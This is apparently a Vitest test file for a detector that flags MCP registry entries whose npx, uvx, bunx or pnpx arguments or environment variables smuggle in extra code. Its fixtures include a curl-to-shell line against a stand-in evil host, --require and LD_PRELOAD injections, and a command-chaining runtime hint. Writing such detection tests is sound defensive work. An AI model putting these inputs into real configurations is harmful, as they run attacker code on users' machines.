import { describe, expect, it } from 'vitest';
import { presetCodeVariable, runnerAddsCode } from '../../../src/ecosystems/mcp/runner-code.js';

type McpArgument = { type: string; name?: string; value?: string; default?: string };

const named = (name: string, value?: string): McpArgument => ({ type: 'named', name, ...(value === undefined ? {} : { value }) });
const positional = (value: string): McpArgument => ({ type: 'positional', value });

describe('runnerAddsCode', () => {
  it.each<[string, 'npm' | 'pypi', McpArgument[], string | null]>([
    ['npx -y', 'npm', [positional('-y')], null],
    ['npx --yes --registry (a redirect, registry-redirect.ts)', 'npm', [named('--yes'), named('--registry', 'https://r.example/')], null],
    ['positional --registry and its value', 'npm', [positional('--registry'), positional('https://r.example/')], null],
    ['uvx --python 3.12', 'pypi', [named('--python', '3.12')], null],
    ['positional --python and its value', 'pypi', [positional('--python'), positional('3.12')], null],
    ['nothing', 'npm', [], null],
    ['an empty positional', 'npm', [positional('  ')], null],
    ['npx -p other', 'npm', [named('-p', 'other')], '-p'],
    ['npx --package=other', 'npm', [positional('--package=other')], '--package'],
    ['npx -c', 'npm', [named('-c', 'sh x')], '-c'],
    ['npx --node-options', 'npm', [named('--node-options', '--require /tmp/x.js')], '--node-options'],
    ['an operand of its own', 'npm', [positional('-y'), positional('other-pkg')], 'an operand of its own'],
    ['a default, not a value', 'npm', [{ type: 'positional', default: 'other-pkg' }], 'an operand of its own'],
    ['an operand after --', 'npm', [positional('--'), positional('x')], 'an operand after --'],
    ['uvx --from git+', 'pypi', [named('--from', 'git+https://g.example/a/b')], '--from'],
    ['uvx --with', 'pypi', [named('--with', 'other')], '--with'],
    ['uvx --with-requirements=', 'pypi', [positional('--with-requirements=https://x.example/r.txt')], '--with-requirements'],
    ['npx -p is pypi -p (python): not code', 'pypi', [named('-p', '3.12')], null],
    // The seed entries' other hints (`node`, `python`): their own code flags, named or positional.
    ['node -e, named', 'npm', [named('-e', 'require("x")')], '-e'],
    ['node --import, named', 'npm', [named('--import', 'data:text/javascript,0')], '--import'],
    ['python -c, named', 'pypi', [named('-c', 'import x')], '-c'],
    ['python -m, named', 'pypi', [named('-m', 'other')], '-m'],
    ['python -u (unbuffered)', 'pypi', [positional('-u')], null],
  ])('%s', (_name, ecosystem, args, expected) => {
    expect(runnerAddsCode(ecosystem, args)).toBe(expected);
  });
  it.each<[string, 'npm' | 'pypi', string, string, string | null]>([
    // Recorded: fixtures/mcp-registry/real/io.github.blazickjp__arxiv-mcp-server.server.json.
    ['the real arxiv entry: uvx given the package itself', 'pypi', 'arxiv-mcp-server', 'arxiv-mcp-server', null],
    ['the package pinned, another spelling', 'pypi', 'Arxiv_MCP.Server', 'arxiv-mcp-server==0.6.3', null],
    ['a scoped npm package with its version', 'npm', '@acme/srv', '@acme/srv@1.2.3', null],
    ['another package', 'pypi', 'arxiv-mcp-server', 'arxiv-mcp-server-evil', 'an operand of its own'],
    ['another scope', 'npm', '@acme/srv', '@evil/srv', 'an operand of its own'],
  ])('an operand: %s', (_name, ecosystem, identifier, operand, expected) => {
    expect(runnerAddsCode(ecosystem, [positional(operand)], undefined, identifier)).toBe(expected);
  });
  it.each([
    ['bash', 'the runtime bash'],
    ['/bin/sh', 'the runtime sh'],
    ['PowerShell.exe', 'the runtime powershell'],
    ['npx', null],
    ['/usr/local/bin/npx', null],
    ['node', null],
    ['python', 'the runtime python, which does not run npm packages'],
    ['uvx', 'the runtime uvx, which does not run npm packages'],
    ['docker', 'the runtime docker, which does not run npm packages'],
    ['npx -p other', 'a runtime hint that is no program name'],
    ['npx;curl', 'a runtime hint that is no program name'],
  ])('runtime hint %s', (hint, expected) => {
    expect(runnerAddsCode('npm', [], hint)).toBe(expected);
  });
  it.each([
    ['uvx', null],
    ['python', null],
    ['pipx', null],
    ['npx', 'the runtime npx, which does not run PyPI projects'],
    ['dnx', 'the runtime dnx, which does not run PyPI projects'],
  ])('a PyPI project\'s runtime hint %s', (hint, expected) => {
    expect(runnerAddsCode('pypi', [], hint)).toBe(expected);
  });
});

describe('presetCodeVariable', () => {
  it.each<[string, { name: string; value?: boolean; default?: boolean }[], string | null]>([
    ['NODE_OPTIONS with a value', [{ name: 'NODE_OPTIONS', value: true }], 'NODE_OPTIONS'],
    ['npm_config_package with a default', [{ name: 'npm_config_package', default: true }], 'NPM_CONFIG_PACKAGE'],
    ['pythonpath in lower case', [{ name: ' pythonpath ', value: true }], 'PYTHONPATH'],
    ['LD_PRELOAD', [{ name: 'LD_PRELOAD', value: true }], 'LD_PRELOAD'],
    ['NODE_OPTIONS the user fills in', [{ name: 'NODE_OPTIONS' }], null],
    ['an ordinary variable with a default', [{ name: 'LOG_LEVEL', default: true }], null],
    ['a name that only contains one', [{ name: 'MY_NODE_OPTIONS', value: true }], null],
  ])('%s', (_name, variables, expected) => {
    expect(presetCodeVariable(variables)).toBe(expected);
  });
});

describe('uv\'s short --with in runtime arguments', () => {
  it('-w adds a package: not the one evaluated', () => {
    expect(runnerAddsCode('pypi', [{ name: '-w', value: 'extra-payload' }], 'uvx', 'mcp-server-time')).toBe('-w');
  });
});

/** With the hint npx, the arguments and the package after them are read as npm reads them (npm/exec-argv.ts), whole. */
describe('runnerAddsCode, hint npx', () => {
  it.each<[string, McpArgument[], string | null]>([
    ['-y', [positional('-y')], null],
    ['-yc LINE (--call in a cluster)', [named('-yc', 'curl https://evil.example/x | sh')], '--call'],
    ['-p other (npx: --package)', [named('-p', 'other')], '--package'],
    ['--node-o=… (abbreviated --node-options)', [positional('--node-o=--require ./x.js')], '--node-options'],
    ['--tag last: it takes the package as its value', [positional('--tag')], "the package taken as a flag's value"],
    ['-yL TRUSTED: --location takes the package', [positional('-yL')], "the package taken as a flag's value"],
    ['--tag x other: other runs', [named('--tag', 'x'), positional('other')], 'an operand of its own'],
    ['-e x (npm: --before, no code)', [named('-e', '2020-01-01')], null],
    ['--registry URL (a redirect, registry-redirect.ts)', [named('--registry', 'https://r.example/')], null],
    ['the package itself, pinned', [positional('@acme/srv@1.2.3')], null],
    ['-- then the package', [positional('--')], null],
  ])('%s', (_name, args, expected) => {
    expect(runnerAddsCode('npm', args, 'npx', '@acme/srv')).toBe(expected);
  });
});

/** With the hint bunx or pnpx, the arguments and the package after them are read as that runner reads them (npm/dlx-argv.ts). */
describe('runnerAddsCode, hints bunx and pnpx', () => {
  it.each<[string, 'bunx' | 'pnpx', McpArgument[], string | null]>([
    ['bunx --bun', 'bunx', [positional('--bun')], null],
    ['bunx -p other', 'bunx', [named('-p', 'other')], '--package'],
    ['bunx --package=other', 'bunx', [positional('--package=other')], '--package'],
    ['bunx -p=other (bun reads it as --package=other)', 'bunx', [positional('-p=other')], '--package'],
    ['bunx -y (bun skips it)', 'bunx', [positional('-y')], null],
    ['bunx --registry=x (a redirect, registry-redirect.ts)', 'bunx', [positional('--registry=x')], null],
    ['pnpx --allow-build=esbuild (no package added)', 'pnpx', [positional('--allow-build=esbuild')], null],
    ['pnpx --package other', 'pnpx', [named('--package', 'other')], '--package'],
    ['pnpx -c (shell mode)', 'pnpx', [positional('-c')], 'runtime arguments pnpx reads in a way nerq cannot read with certainty'],
    ['pnpx other', 'pnpx', [positional('other')], 'an operand of its own'],
    ['pnpx --silent', 'pnpx', [positional('--silent')], null],
  ])('%s', (_name, hint, args, expected) => {
    expect(runnerAddsCode('npm', args, hint, '@acme/srv')).toBe(expected);
  });
});
